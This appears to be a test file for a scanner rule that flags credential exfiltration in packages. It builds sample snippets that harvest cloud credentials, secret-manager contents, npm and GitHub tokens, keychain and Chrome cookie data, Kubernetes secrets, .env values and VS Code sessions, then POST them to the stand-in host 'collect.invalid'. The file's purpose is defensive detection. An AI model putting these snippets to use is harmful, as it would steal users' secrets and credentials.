import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { dataExfiltration } from '../../../../../server/src/rules/data-exfiltration.js';
import { artifactFacts, packageOf } from '../../../../support/artifacts.js';
import { draftsOf } from '../../../../rules/support/drafts-of.js';
import { subject } from '../../../../support/subjects.js';

const levelOf = (code: string): string | undefined => {
  const { flows } = analysePackage(packageOf({ 'index.js': code }));
  return draftsOf(dataExfiltration, subject(), { artifact: artifactFacts({ flows }) })[0]?.level;
};
const send = (what: string, host: string): string =>
  `fetch('https://${host}/v1', { method: 'POST', body: JSON.stringify(${what}) })`;

/** What finds it, the level where it goes to somebody, and a host of its own service. */
const PROVIDERS: readonly (readonly [code: (then: string) => string, level: string, own: string])[] = [
  [
    (then) =>
      `const { fromNodeProviderChain: p } = require('@aws-sdk/credential-providers'); p()().then((t) => ${then});`,
    'critical',
    'sts.amazonaws.com',
  ],
  [
    (then) => `new (require('@azure/identity').DefaultAzureCredential)().getToken('x').then((t) => ${then});`,
    'critical',
    'management.azure.com',
  ],
  [
    (then) => `new (require('google-auth-library').GoogleAuth)().getAccessToken().then((t) => ${then});`,
    'critical',
    'storage.googleapis.com',
  ],
  [
    (
      then,
    ) => `const { SecretsManagerClient, ListSecretsCommand, GetSecretValueCommand } = require('@aws-sdk/client-secrets-manager');
      const c = new SecretsManagerClient({});
      c.send(new ListSecretsCommand({})).then(async ({ SecretList }) => {
        for (const { ARN } of SecretList) { const t = await c.send(new GetSecretValueCommand({ SecretId: ARN })); ${then}; }
      });`,
    'critical',
    'sts.amazonaws.com',
  ],
  [
    (then) => `const { SSM } = require('@aws-sdk/client-ssm');
      new SSM({}).getParametersByPath({ Path: '/', Recursive: true, WithDecryption: true }).then(({ Parameters: t }) => ${then});`,
    'critical',
    'ssm.eu-west-1.amazonaws.com',
  ],
  [
    (
      then,
    ) => `const { SecretManagerServiceClient } = require('@google-cloud/secret-manager'), c = new SecretManagerServiceClient();
      c.listSecrets({ parent: 'p' }).then(async ([all]) => {
        for (const { name } of all) { const [t] = await c.accessSecretVersion({ name: name + '/versions/latest' }); ${then}; }
      });`,
    'critical',
    'storage.googleapis.com',
  ],
  [
    (then) => `const { SecretClient } = require('@azure/keyvault-secrets'), c = new SecretClient(url, key);
      (async () => { for await (const { name } of c.listPropertiesOfSecrets()) { const t = (await c.getSecret(name)).value; ${then}; } })();`,
    'critical',
    'management.azure.com',
  ],
  [(then) => `const t = require('registry-auth-token')(); ${then};`, 'high', 'registry.npmjs.org'],
  [(then) => `const t = require('@actions/core').getInput('github-token'); ${then};`, 'high', 'api.github.com'],
];

describe('credentials that a library finds on the machine', () => {
  for (const [code, level, own] of PROVIDERS) {
    it(`go to nobody but their service: ${code('send')}`, () => {
      assert.equal(levelOf(code(send('t', 'collect.invalid'))), level);
      assert.equal(levelOf(code(send('t', own))), undefined);
      assert.equal(levelOf(code('use(t)')), undefined);
    });
  }

  it('are not what a program asks a store for by its name', () => {
    const named = `const { SecretsManagerClient: C, GetSecretValueCommand: G } = require('@aws-sdk/client-secrets-manager');
      new C({}).send(new G({ SecretId: 'prod/db' })).then((t) => ${send('t', 'db.acme.example')});
      new (require('@aws-sdk/client-ssm').SSM)({}).getParameter({ Name: '/db' }).then((t) => ${send('t', 'db.acme.example')});`;
    assert.equal(levelOf(named), undefined);
  });

  it('are handed to clients of the service', () => {
    const code = `const { fromIni } = require('@aws-sdk/credential-providers'), { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');
      exports.put = (Body) => new S3Client({ credentials: fromIni({ profile: 'a' }) }).send(new PutObjectCommand({ Bucket: 'a', Key: 'b', Body }));`;
    assert.equal(levelOf(code), undefined);
  });

  it('are those of a keychain, unless the same code keeps its own there', () => {
    const all = `const k = require('keytar'); k.findCredentials('acme').then((t) => ${send('t', 'collect.invalid')});`;
    const one = (service: string) =>
      `const k = require('keytar'); k.getPassword('${service}', 'a').then((t) => ${send('t', 'collect.invalid')});`;
    assert.equal(levelOf(all), 'critical');
    assert.equal(levelOf(`${all} exports.login = (t) => k.setPassword('acme', 'a', t);`), undefined);
    assert.equal(levelOf(one('Chrome Safe Storage')), 'critical');
    assert.equal(levelOf(one('acme')), undefined);
  });

  it('are secrets of a cluster, and what a browser keeps', () => {
    const cluster = (method: string) =>
      `const k = require('@kubernetes/client-node'); const c = new k.KubeConfig(); c.loadFromDefault(); c.makeApiClient(k.CoreV1Api).${method}().then((r) => ${send('r.body', 'collect.invalid')});`;
    assert.equal(levelOf(cluster('listSecretForAllNamespaces')), 'critical');
    assert.equal(levelOf(cluster('listNamespacedPod')), undefined);
    const cookies = `require('chrome-cookies-secure').getCookies('https://x.example', 'jar', (e, c) => ${send('c', 'collect.invalid')});`;
    assert.equal(levelOf(cookies), 'critical');
  });

  it('are all that a file of variables says, where one of them is what a service is asked with', () => {
    const parsed = (what: string) =>
      `const { parsed } = require('dotenv').config(); ${send(what, 'api.acme.example')};`;
    assert.equal(levelOf(parsed('parsed')), 'high');
    assert.equal(levelOf(parsed('parsed.ACME_TOKEN')), undefined);
    const vite = (prefix: string) =>
      `const { loadEnv } = require('vite'); ${send(`loadEnv('x', process.cwd(), '${prefix}')`, 'collect.invalid')};`;
    assert.equal(levelOf(vite('')), 'high');
    assert.equal(levelOf(vite('VITE_')), undefined);
    const next = `const { combinedEnv } = require('@next/env').loadEnvConfig(process.cwd()); ${send('combinedEnv', 'collect.invalid')};`;
    assert.equal(levelOf(next), 'high');
  });

  it('are what an editor is logged in with', () => {
    const code = (host: string) =>
      `const vscode = require('vscode'); exports.activate = async () => { const s = await vscode.authentication.getSession('github', ['repo']); ${send('s.accessToken', host)}; };`;
    assert.equal(levelOf(code('collect.invalid')), 'medium');
    assert.equal(levelOf(code('api.github.com')), undefined);
  });
});
